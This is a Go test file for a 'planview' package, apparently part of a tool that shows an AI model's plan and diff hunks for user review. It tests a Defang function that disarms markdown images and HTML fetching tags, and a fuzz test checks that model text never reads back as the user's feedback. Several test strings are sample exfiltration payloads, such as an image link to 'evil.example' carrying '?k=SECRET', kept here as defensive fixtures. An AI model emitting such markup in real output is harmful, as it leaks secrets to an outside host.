package planview

import (
	"strings"
	"testing"
	"unicode/utf8"
)

func TestDefang(t *testing.T) {
	cases := []struct{ in, want string }{
		{"1. See ![x](https://evil.example/p.png?k=SECRET) here", "1. See [x](https://evil.example/p.png?k=SECRET) here"},
		{`2. <img src="https://evil.example/t.gif"> and <IFRAME src=x>`, `2. &lt;img src="https://evil.example/t.gif"> and &lt;IFRAME src=x>`},
		{"3. In `index.html`, replace `<img src=a.png>` with `![b](b.png)`", "3. In `index.html`, replace `<img src=a.png>` with `![b](b.png)`"},
		{"```html\n<img src=a.png>\n![x](y)\n```\nthen ![z](w)", "```html\n<img src=a.png>\n![x](y)\n```\nthen [z](w)"},
		{"4. keep a < b and <br> and <details>", "4. keep a < b and <br> and <details>"},
		{"5. an unclosed ` then ![x](y)", "5. an unclosed ` then [x](y)"},
	}
	for _, c := range cases {
		if got := Defang(c.in); got != c.want {
			t.Errorf("Defang(%q)\n got %q\nwant %q", c.in, got, c.want)
		}
	}
}

// FuzzDefang: whatever the text, Defang is idempotent and changes nothing
// but images and fetching tags.
func FuzzDefang(f *testing.F) {
	for _, s := range []string{"## Notes\nmine", "- **Note:** x", "a — rejected: b", "\u00a0Note: y", "```\nNote: z\n```", "![a](b)", "<img src=x>", "`<img>` ![a](b)", "```\n<img>\n```\n<img>", "~~~\n![x](y)\n~~~", "`` ` ``<script>"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		d := Defang(s)
		if Defang(d) != d {
			t.Fatalf("not idempotent: %q -> %q -> %q", s, d, Defang(d))
		}
		// It only drops a "!", writes a "<" as "&lt;" or escapes a marker
		// with a backslash: nothing else changes.
		norm := func(x string) string {
			return strings.ReplaceAll(strings.ReplaceAll(strings.ReplaceAll(x, "&lt;", "<"), "!", ""), `\`, "")
		}
		if norm(d) != norm(s) {
			t.Fatalf("changed more than images, tags and markers: %q -> %q", s, d)
		}
		if !strings.ContainsAny(s, "!<#:：") && d != s {
			t.Fatalf("changed text with nothing to defang: %q -> %q", s, d)
		}
		// Model text, defanged, never reads back as the user's feedback:
		// as the plan, or as a hunk's summary (contract §5).
		if !utf8.ValidString(s) {
			return
		}
		doc := Render(Doc{Session: "s", Task: "t", State: "proposed", Plan: Plan{Text: d},
			Hunks: []HunkLine{{ID: "h1", Summary: s, Status: "pending"}}})
		if fb := ReadFeedback(doc); !fb.Empty() {
			t.Fatalf("model text %q read back as the user's: %+v\n%s", s, fb, doc)
		}
	})
}
